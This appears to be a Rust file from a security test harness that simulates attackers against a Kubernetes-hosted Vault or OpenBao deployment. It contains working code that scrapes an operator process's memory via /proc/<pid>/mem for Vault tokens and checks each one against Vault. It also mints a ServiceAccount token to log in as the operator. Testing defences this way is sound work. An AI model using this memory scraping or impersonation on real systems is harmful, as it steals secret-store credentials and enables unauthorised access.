//! An attacker at Vault: with a token of the operator's from its memory, or with one that is made for a tenant's
//! ServiceAccount.

use std::collections::BTreeSet;
use std::fs::{self, File};
use std::net::{IpAddr, Ipv4Addr};
use std::os::unix::fs::FileExt as _;

use anyhow::{Context, Result};
use k8s_openapi::api::authentication::v1::{TokenRequest, TokenRequestSpec};
use k8s_openapi::api::core::v1::ServiceAccount;
use kube::api::{Api, PostParams};
use serde_json::json;

use super::Scene;
use crate::lab::{NAMESPACE, OPERATOR_ACCOUNT, Part, Vault};

/// Where the attacker is.
pub const ATTACKER: IpAddr = IpAddr::V4(Ipv4Addr::new(127, 0, 0, 9));
/// How tokens begin, of OpenBao and of HashiCorp Vault, and how much follows at least.
const TOKENS: [(&[u8], usize); 2] = [(b"s.", 24), (b"hvs.", 24)];
/// How much of the memory is looked at, at once.
const CHUNK: usize = 1 << 20;
/// No token is longer.
const LONGEST: usize = 200;

impl Scene {
    /// The attacker at Vault, with a token of the operator's from its memory.
    pub async fn thief(&self) -> Result<Vault> {
        let pid = self.lab().process(Part::Operator).await.pid();
        let vault = self.lab().vault();
        for token in candidates(pid)? {
            let told = vault
                .write("auth/token/lookup", json!({"token": token}))
                .await;
            let name = told.map(|told| told["data"]["display_name"].clone());
            if name.is_ok_and(|name| name == format!("kubernetes-{NAMESPACE}-{OPERATOR_ACCOUNT}")) {
                return Ok(vault.from(ATTACKER)?.with_token(token));
            }
        }
        anyhow::bail!("the operator's memory holds no token of Vault's that is good")
    }

    /// The attacker at Vault, logged in with a token that an administrator made for the ServiceAccount that the operator logs in
    /// as. It comes from `address`.
    pub async fn impostor(&self, address: IpAddr) -> Result<Vault> {
        let accounts: Api<ServiceAccount> = Api::namespaced(self.lab().client(), NAMESPACE);
        let request = TokenRequest {
            spec: TokenRequestSpec {
                audiences: vec!["vault".to_owned()],
                expiration_seconds: Some(600),
                ..TokenRequestSpec::default()
            },
            ..TokenRequest::default()
        };
        let made = accounts
            .create_token_request(OPERATOR_ACCOUNT, &PostParams::default(), &request)
            .await?;
        let jwt = made.status.context("a token was made")?.token;
        let vault = self.lab().vault().from(address)?.with_token("");
        let login = json!({"role": OPERATOR_ACCOUNT, "jwt": jwt});
        let told = vault.write("auth/kubernetes/login", login).await?;
        let token = told["auth"]["client_token"].as_str();
        Ok(vault.with_token(token.context("a login gives a token")?))
    }
}

/// What looks like a token in the memory of a process.
fn candidates(pid: u32) -> Result<BTreeSet<String>> {
    let tried = || format!("could not read the memory of {pid}");
    let maps = fs::read_to_string(format!("/proc/{pid}/maps")).with_context(tried)?;
    let memory = File::open(format!("/proc/{pid}/mem")).with_context(tried)?;
    let mut found = BTreeSet::new();
    let mut buffer = vec![0; CHUNK + LONGEST];
    for line in maps.lines() {
        let mut fields = line.split_whitespace();
        let (Some(range), Some(rights)) = (fields.next(), fields.next()) else {
            continue;
        };
        let ends = range.split_once('-');
        let ends = ends.and_then(|(from, to)| {
            let hex = |text| u64::from_str_radix(text, 16).ok();
            Some((hex(from)?, hex(to)?))
        });
        let Some((mut at, end)) = ends.filter(|_| rights.starts_with("rw")) else {
            continue;
        };
        while at < end {
            // What can't be read is passed over: some ranges can't.
            let read = memory.read_at(&mut buffer, at).unwrap_or_default();
            tokens(&buffer[..read], &mut found);
            at += u64::try_from(CHUNK)?;
        }
    }
    Ok(found)
}

fn tokens(memory: &[u8], found: &mut BTreeSet<String>) {
    for (beginning, least) in TOKENS {
        for at in memory.windows(beginning.len()).enumerate() {
            let (at, window) = at;
            if window != beginning || at > 0 && memory[at - 1].is_ascii_alphanumeric() {
                continue;
            }
            let rest = &memory[at + beginning.len()..];
            let good = |byte: &u8| byte.is_ascii_alphanumeric() || b"-_".contains(byte);
            let length = rest
                .iter()
                .take(LONGEST)
                .take_while(|byte| good(byte))
                .count();
            // In memory something else may follow at once.
            let lengths = if beginning == b"s." {
                least..=least
            } else {
                length..=length
            };
            for length in lengths.filter(|wanted| *wanted <= length && length >= least) {
                let token = &memory[at..at + beginning.len() + length];
                found.insert(String::from_utf8_lossy(token).into_owned());
            }
        }
    }
}
